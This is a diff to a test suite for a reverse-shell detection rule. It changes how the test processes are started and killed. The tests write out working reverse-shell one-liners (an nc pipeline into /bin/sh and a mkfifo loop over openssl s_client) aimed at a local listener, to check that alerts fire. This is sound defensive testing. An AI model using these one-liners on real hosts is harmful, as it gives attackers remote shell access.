@@ -436,11 +436,17 @@ def test_reverse_shell_relay(dflt):
     srv, t = _revshell_listener()
     port = srv.getsockname()[1]
     try:
-        subprocess.run(["/usr/bin/timeout", "20", "/bin/bash", "-c",
-                        "nc 127.0.0.1 %d < /dev/null | /bin/sh -i 2>&1 | nc -q1 127.0.0.1 %d"
-                        % (port, port)], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
-        dflt.wait_for(lambda e: e.get("rule") == "c2-reverse-shell-relay" and e["type"] == "exec",
-                      what="relay alert")
+        pipe = subprocess.Popen(["/usr/bin/timeout", "20", "/bin/bash", "-c",
+                                 "nc 127.0.0.1 %d < /dev/null | /bin/sh -i 2>&1 | "
+                                 "nc -q1 127.0.0.1 %d" % (port, port)],
+                                stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
+                                start_new_session=True)
+        try:
+            dflt.wait_for(lambda e: e.get("rule") == "c2-reverse-shell-relay"
+                          and e["type"] == "exec", what="relay alert")
+        finally:
+            os.killpg(pipe.pid, signal.SIGKILL)  # the whole pipeline: no need to wait it out
+            pipe.wait()
     finally:
         srv.close()
 
@@ -672,14 +678,16 @@ def test_reverse_shell_openssl_relay(dflt, tmp):
         sh = subprocess.Popen(["/usr/bin/timeout", "15", "/bin/bash", "-c",
                                "mkfifo %s; /bin/sh -i < %s 2>&1 | openssl s_client -quiet "
                                "-connect 127.0.0.1:%d > %s" % (fifo, fifo, port, fifo)],
-                              stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
-        ev = dflt.wait_for(lambda e: e.get("rule") == "c2-reverse-shell-relay",
-                           what="openssl relay alert")
+                              stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
+                              start_new_session=True)
+        try:
+            ev = dflt.wait_for(lambda e: e.get("rule") == "c2-reverse-shell-relay",
+                               what="openssl relay alert")
+        finally:
+            os.killpg(sh.pid, signal.SIGKILL)
+            sh.wait()
         peer = ev["exec"]["stdio"]["stdout"].get("peer") or ev["exec"]["stdio"]["stdin"].get("peer")
         assert peer and os.path.basename(peer["exe"]) in ("openssl", "dash", "sh", "bash")
-        srv.stdin.write(b"exit\n")
-        srv.stdin.flush()
-        sh.wait(20)
     finally:
         srv.kill()
         srv.wait()
